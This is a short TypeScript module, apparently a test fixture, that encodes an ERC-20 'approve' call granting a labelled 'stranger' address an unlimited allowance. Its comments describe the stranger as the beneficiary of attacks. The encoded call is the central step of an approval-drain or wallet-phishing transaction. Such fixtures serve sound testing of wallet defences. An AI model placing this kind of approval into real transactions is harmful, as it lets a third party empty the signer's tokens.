import { type Address, type Hex, encodeFunctionData } from "tokenwright";

/** Who would profit from the attacks. */
export const stranger: Address = "0x9965507D1a55bcC2695C58ba16FB37d819B0A4dc";

const approve = [{
  type: "function", name: "approve", stateMutability: "nonpayable", outputs: [],
  inputs: [{ name: "spender", type: "address" }, { name: "amount", type: "uint256" }],
}];

/** Lets the stranger spend all there is. */
export function writeApproval(): Hex {
  return encodeFunctionData(approve, "approve", [stranger, 2n ** 256n - 1n]);
}
